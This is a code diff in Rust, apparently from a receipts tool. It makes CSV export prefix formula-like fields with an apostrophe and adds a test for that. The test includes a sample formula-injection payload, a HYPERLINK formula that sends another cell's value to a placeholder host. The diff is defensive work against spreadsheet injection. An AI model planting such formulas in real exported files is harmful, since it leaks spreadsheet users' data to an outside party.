@@ -61,12 +61,15 @@ pub fn name_column(receipts: &[Receipt], flag: Option<&str>) -> Result<Option<St
     }
 }
 
-/// A CSV document of `rows` under `header`, every field quoted as needed.
+/// A CSV document of `rows` under `header`, every field quoted as needed,
+/// and every field that a spreadsheet would run as a formula written with a
+/// leading `'` ([`crate::spreadsheet_safe`]; the file is for a spreadsheet).
 pub fn csv(header: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>> {
+    use crate::spreadsheet_safe::neutralise;
     let mut w = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
-    w.write_record(header)?;
+    w.write_record(header.iter().map(|c| neutralise(c).into_owned()))?;
     for r in rows {
-        w.write_record(r)?;
+        w.write_record(r.iter().map(|c| neutralise(c).into_owned()))?;
     }
     w.into_inner().map_err(|e| anyhow::anyhow!("internal error: {e}"))
 }
@@ -79,5 +82,18 @@ mod tests {
     fn csv_quotes_commas_and_quotes() {
         let out = csv(&["id".into(), "name".into()], &[vec!["A1".into(), "Mensah, \"Joyce\"".into()]]).unwrap();
         assert_eq!(String::from_utf8(out).unwrap(), "id,name\r\nA1,\"Mensah, \"\"Joyce\"\"\"\r\n");
+    }
+
+    #[test]
+    fn csv_cells_never_start_a_formula() {
+        let link = "=HYPERLINK(\"https://x.invalid/?\"&C2,\"klik\")";
+        let out =
+            csv(&["id".into(), "@name".into()], &[vec!["A1".into(), link.into()], vec!["A2".into(), "-Mo-".into()]])
+                .unwrap();
+        let text = String::from_utf8(out).unwrap();
+        assert_eq!(
+            text,
+            "id,'@name\r\nA1,\"'=HYPERLINK(\"\"https://x.invalid/?\"\"&C2,\"\"klik\"\")\"\r\nA2,'-Mo-\r\n"
+        );
     }
 }
